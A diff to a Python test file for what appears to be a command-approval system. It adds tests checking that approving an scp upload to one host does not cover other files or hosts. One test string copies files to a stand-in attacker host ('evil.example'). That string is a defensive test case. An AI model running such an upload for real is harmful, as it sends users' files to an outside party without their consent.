@@ -402,6 +402,7 @@ def test_after_untrusted_words_a_yes_leaves_no_word_of_a_command_open() -> None:
         "docker logs --tail 5 web",
         "kubectl get pods",
         "apt show vim",
+        "aws s3 ls",
     ],
 )
 def test_a_command_with_a_known_usage_can_be_allowed_for_good(command: str) -> None:
@@ -565,3 +566,14 @@ def test_an_approval_of_messages_says_that_it_covers_any_text_and_none_of_others
     assert describe_shape(shape) == "send_message: send #team <any text> → chat"
     assert not is_exact(shape)
     assert shape_of("send_message", action, is_guarded=True) == ""
+
+
+def test_a_file_with_the_look_of_a_host_is_no_second_host() -> None:
+    setting = Setting(has_network=True, is_confined=True, rules=(), is_tainted=False)
+    asked = setting.judge("scp -r a.txt docs.zip me@h.example:", {})
+    allowed = dict.fromkeys(asked.shapes, True)
+    assert setting.judge("scp -r a.txt docs.zip me@h.example:", allowed).effect == "allow"
+    for other in ("scp -r a.txt me@h.example:", "scp -r a.txt docs.zip me@evil.example:"):
+        assert setting.judge(other, allowed).effect == "ask"
+    for unknown in ("scp -J b.example a.txt me@h.example:", "scp a.txt h.example: b.example:"):
+        assert setting.judge(unknown, {}).shapes == ()
